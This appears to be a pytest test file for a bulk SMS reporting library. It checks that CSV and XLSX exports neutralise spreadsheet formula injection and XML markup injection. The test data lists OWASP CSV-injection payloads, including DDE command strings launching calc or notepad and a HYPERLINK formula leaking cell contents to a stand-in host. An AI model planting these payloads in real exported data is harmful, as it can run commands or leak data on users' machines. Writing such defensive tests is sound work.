"""Reports open safely in Excel and read back to what was written."""

from __future__ import annotations

import pandas as pd
import pytest
from bulk_helpers import CONTACTS, DAY, frame

import ptdata
from ptdata.bulk.schema import REPORT_SCHEMA
from ptdata.bulk.writers import write_frame

# OWASP CSV-injection examples, and the other cells Excel would run
OWASP = [
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "'=1+2",
    "''@x",
    "-",
    "+",
]
PLAIN = ["+14155550123", "-5", "+1", "-1", "02134", "Zoë 🎉", "", "'quoted"]


def _sample() -> pd.DataFrame:
    values = OWASP + PLAIN
    return pd.DataFrame(
        {
            "text": pd.Series(values, dtype="str"),
            "count": pd.array(range(-3, len(values) - 3), dtype="Int64"),
            "ratio": [-0.5] * len(values),
        }
    )


def test_csv_neutralises_formulas_and_reads_back_to_the_same_values(tmp_path):
    sample = _sample()
    path = write_frame(sample, tmp_path / "r.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel reads accents right
    cells = pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    for written in cells["text"]:
        if written[:1] in ("=", "@", "\t", "\r", "\n") or written in ("-", "+"):
            pytest.fail(f"formula-like cell written as is: {written!r}")
        if written and written[0] in "+-":
            assert written.lstrip("+-").isdigit()  # only plain signed numbers stay unquoted
    assert cells["text"].tolist()[:3] == ["'=1+2", "'=1+2\";=1+2", "'=1+2'\" ;,=1+2"]
    assert cells["count"].tolist()[:3] == ["-3", "-2", "-1"]  # numbers stay plain numbers
    back = ptdata.read_report(path)
    assert back["text"].fillna("").tolist() == OWASP + PLAIN[:6] + [""] + PLAIN[7:]


def test_numeric_columns_stay_numeric_in_the_csv(tmp_path):
    path = write_frame(_sample(), tmp_path / "r.csv")
    again = pd.read_csv(path, encoding="utf-8-sig")
    assert again["count"].dtype.kind == "i"
    assert again["ratio"].dtype.kind == "f"


def test_xlsx_writes_every_text_as_a_text_cell(tmp_path):
    from openpyxl import load_workbook

    path = write_frame(_sample(), tmp_path / "r.xlsx")
    ws = load_workbook(path).active
    col = [c for c in ws.iter_cols(min_col=1, max_col=1, min_row=2, values_only=False)][0]
    assert [c.data_type for c in col if c.value is not None] == ["s"] * (
        len(OWASP) + len(PLAIN) - 1
    )
    assert [c.value for c in col][:2] == ["=1+2", '=1+2";=1+2']  # exact text, never a formula
    assert ws["A" + str(2 + OWASP.index("+1+2"))].value == "+1+2"
    assert ws["B2"].value == -3 and ws["B2"].data_type == "n"


def test_xlsx_text_that_looks_like_the_sheets_own_markup_stays_text(tmp_path):
    """xlsxwriter's constant-memory mode would copy "<r>...</r>" into the sheet's XML as it
    is: a name or a texted reply could hide itself and add cells, a formula among them."""
    import zipfile

    from openpyxl import load_workbook

    planted = (
        '<r><t>Ann</t></r></is></c><c r="Z2"><f>HYPERLINK("http://evil.example","x")</f>'
        '</c><c r="Y2" t="inlineStr"><is><r><t>x</t></r>'
    )
    texts = [planted, "<r><t>Ann</t></r>", "<r>  spaced  </r>", "<r>", "<r>" + "a" * 40_000]
    sheet = pd.DataFrame({"name": texts, "<r>column</r>": ["1", "2", "3", "4", "5"]})
    path = write_frame(sheet, tmp_path / "r.xlsx")

    with zipfile.ZipFile(path) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    ws = load_workbook(path).active
    cells = [[(c.coordinate, c.value, c.data_type) for c in row] for row in ws.iter_rows()]
    assert [c for row in cells for c, _, _ in row] == [f"{a}{r}" for r in range(1, 7) for a in "AB"]
    assert {t for row in cells for _, _, t in row} == {"s"}
    assert cells[0][1][1] == "<r>column</r>"
    assert [row[0][1] for row in cells[1:5]] == texts[:4]
    assert cells[5][0][1] == texts[4][:32_767]  # cut where Excel cuts any text
    back = ptdata.read_report(path)
    assert back["name"].tolist()[:4] == texts[:4]


def test_column_names_are_as_safe_as_cells_and_read_back_as_written(tmp_path):
    """A column name reaches the first row of the file: Excel would run it like any cell."""
    names = ['=HYPERLINK("http://evil.example","x")', "'=kept", "+14155550123", "Name"]
    sheet = pd.DataFrame([["a", "b", "c", "d"]], columns=names)
    path = write_frame(sheet, tmp_path / "r.csv")
    header = path.read_text(encoding="utf-8-sig").splitlines()[0]
    assert header.startswith("\"'=HYPERLINK(") and ",''=kept,+14155550123,Name" in header
    assert ptdata.read_report(path).columns.tolist() == names
    sheet.columns = [*names[:3], "ctl\x01"]
    back = ptdata.read_report(write_frame(sheet, tmp_path / "r.xlsx"))
    assert back.columns.tolist() == [*names[:3], "ctl\ufffd"]  # as cells keep such text


def test_the_report_has_every_row_in_order_and_fits_its_schema(client, run, tmp_path):
    rows = frame(
        Phone=["+14155550101", "555", "+14155550101", "(415) 555-0102"],
        Name=['=HYPERLINK("x")', "Bo", "Ava", "@Ben"],
        ZIP=["02134"] * 4,
    )
    report = run(ptdata.plan(rows, body="Hi", skip_invalid=True, now=DAY), client)
    f = report.frame
    assert list(f.columns) == list(ptdata.bulk.REPORT_COLUMNS)
    assert f["row"].tolist() == [2, 3, 4, 5]
    assert f["status"].tolist() == ["sent", "skipped", "skipped", "sent"]
    assert f["reason"].tolist()[1:3] == ["invalid", "duplicate"]
    REPORT_SCHEMA.validate(f)
    for ext in ("csv", "xlsx", "parquet"):
        back = ptdata.read_report(report.write(tmp_path / f"report.{ext}"))
        assert back["phone"].tolist()[::3] == ["+14155550101", "+14155550102"]
        assert back["name"].tolist()[0] == '=HYPERLINK("x")'
        assert back["status"].tolist() == f["status"].tolist()
        assert back["segments"].tolist() == [1, 1, 1, 1]


def test_the_summary_counts_by_status_and_reason(client, run):
    rows = frame(Phone=["+14155550101", "555", "+14155550101", "+14155550102"])
    report = run(ptdata.plan(rows, body="Hi", skip_invalid=True, now=DAY), client)
    assert str(report.summary()).splitlines()[1:] == [
        "  sent           2",
        "  skipped        2  (invalid 1, duplicate 1)",
        "  1 API call made, 2 segments sent or scheduled",
    ]
    assert report.counts == {"sent": 2, "skipped": 2}
    assert report.ok


def test_a_dry_run_writes_the_plan_as_planned_rows(tmp_path):
    p = ptdata.plan(frame(Phone=CONTACTS), body="Hi", now=DAY)
    back = ptdata.read_report(p.write(tmp_path / "plan.csv"))
    assert back["status"].tolist() == ["planned"] * 3
    assert back["operation"].tolist() == ["SendMessageToMultipleNumbers"] * 3
    assert back["job_id"].tolist() == [p.job_id] * 3
